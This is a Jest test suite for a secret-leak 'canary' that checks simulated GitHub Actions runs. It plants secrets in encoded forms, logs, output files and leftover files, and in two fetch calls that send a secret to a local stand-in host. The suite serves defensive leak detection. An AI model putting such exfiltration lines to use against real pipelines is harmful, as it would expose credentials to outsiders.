import {mkdirSync} from 'node:fs';
import {join} from 'node:path';
import {afterEach, beforeEach, expect, test} from '@jest/globals';
import {openCanary} from '../../src/rehearsal/canary/canary.js';
import {type StandIn, sendJson, startStandIn} from '../../src/rehearsal/stand-in.js';
import type {World} from '../../src/rehearsal/world.js';
import {type Ground, openGround} from './engine-ground.js';

/** The canary walk finds what it is there to find: one leak of each kind is planted, each must be reported. */

const secret = 'planted/secret 4711 value';
const key = '-----BEGIN CANARY KEY-----\nplantedLineOne5f2c9a\nplantedLineTwo8d1e4b\n-----END CANARY KEY-----';
const url = 'postgres://shop:planted%2Fp%40ss%20word77@127.0.0.1/shop';

let ground: Ground;
let standIn: StandIn;
beforeEach(async () => {
  ground = openGround();
  standIn = await startStandIn(({response}) => sendJson(response, 200, {}));
});
afterEach(async () => {
  ground[Symbol.dispose]();
  await standIn.close();
});

/** Runs one script with the secrets in its environment, and walks. */
async function walk(script: string): Promise<readonly string[]> {
  const folder = join(ground.root, 'world');
  mkdirSync(folder, {recursive: true});
  const quiet = {requests: []};
  const world = {
    folder,
    vercel: quiet,
    railway: quiet,
    github: standIn,
    s3: quiet,
    railwayDatabases: [],
  } as unknown as World;
  await using canary = await openCanary(world, {SECRET: secret, KEY: key, URL: url});
  ground.write('leak.sh', script);
  ground.commit();
  const result = await ground.run(
    `
on: push
jobs:
  leak:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v7
      - run: bash leak.sh
        env: {SECRET: "\${{ secrets.SECRET }}", KEY: "\${{ secrets.KEY }}", URL: "\${{ secrets.URL }}", AT: "${standIn.url}"}
`,
    {secrets: {SECRET: secret, KEY: key, URL: url}, workDir: join(folder, 'run'), onRaw: canary.onRaw},
  );
  expect(result.conclusion).toBe('success');
  return (await canary.inspect(world, [result])).finds;
}

test('a run that keeps its secrets is clean', async () => {
  expect(await walk('test -n "$SECRET" && echo fine && echo "::add-mask::$SECRET"')).toEqual([]);
});

test.each<[kind: string, script: string, find: RegExp]>([
  ['a line that the runner would mask', 'echo "it is $SECRET"', /^SECRET \(plain\) in log of leak$/],
  ['a line on standard error', 'echo "$SECRET" >&2', /^SECRET \(plain\) in log of leak$/],
  ['percent-encoded', 'echo planted%2Fsecret%204711%20value', /^SECRET \(percent-encoded\) in log of leak$/],
  [
    'base64 inside other text',
    'printf "u:%s:x" "$SECRET" | base64 -w0; echo',
    /^SECRET \(base64 at 2\) in log of leak$/,
  ],
  ['hex', 'printf %s "$SECRET" | od -An -v -tx1 | tr -d " \\n"; echo', /^SECRET \(hex\) in log of leak$/],
  ['one line of a key', 'echo "$KEY" | sed -n 3p', /^KEY \(line 3\) in log of leak$/],
  ['the decoded password of an address', 'echo "planted/p@ss word77"', /^URL \(password, plain\) in log of leak$/],
  ['an annotation', 'echo "::warning::it is $SECRET"', /^SECRET \(plain\) in log of leak$/],
  ['an output', 'echo "leak=$SECRET" >> "$GITHUB_OUTPUT"', /^SECRET \(plain\) in output of leak$/],
  ['state for the post step', 'echo "leak=$SECRET" >> "$GITHUB_STATE"', /^SECRET \(plain\) in state of leak$/],
  ['the environment of later steps', 'echo "LEAK=$SECRET" >> "$GITHUB_ENV"', /^SECRET \(plain\) in env of leak$/],
  ['the job summary', 'echo "| $SECRET |" >> "$GITHUB_STEP_SUMMARY"', /^SECRET \(plain\) in step_summary of leak$/],
  ['an argument list', 'node -e "setTimeout(() => {}, 400)" "$SECRET"', /^SECRET \(plain\) in argument lists$/],
  ['a file that is left', 'echo "$SECRET" > left.txt', /^SECRET \(plain\) in file .*left\.txt$/],
  ['a temporary file that is left', 'echo "$SECRET" > "$(mktemp)"', /^SECRET \(plain\) in file \/tmp\./],
  [
    'a file that others could read for a moment',
    'echo "$SECRET" > passing.txt && chmod 644 passing.txt && sleep 1.5 && rm passing.txt',
    /^SECRET \(plain\) in .*passing\.txt, for a moment$/,
  ],
  [
    'an address that is requested',
    'node -e "fetch(process.env.AT + \'/x?t=\' + encodeURIComponent(process.env.SECRET))"',
    /^SECRET \(plain\) in journal of github$/,
  ],
  [
    'a body that is sent',
    "node -e \"fetch(process.env.AT, {method: 'POST', body: process.env.SECRET, headers: {'content-type': 'text/plain'}})\"",
    /^SECRET \(plain\) in journal of github$/,
  ],
])('finds %s', async (_kind, script, find) => {
  const finds = await walk(script);
  expect(finds.filter((one) => find.test(one))).not.toEqual([]);
});

test('a private file that is gone at the end is no leak, but counted', async () => {
  expect(await walk('umask 077 && echo "$SECRET" > private.txt && sleep 1.5 && rm private.txt')).toEqual([]);
});
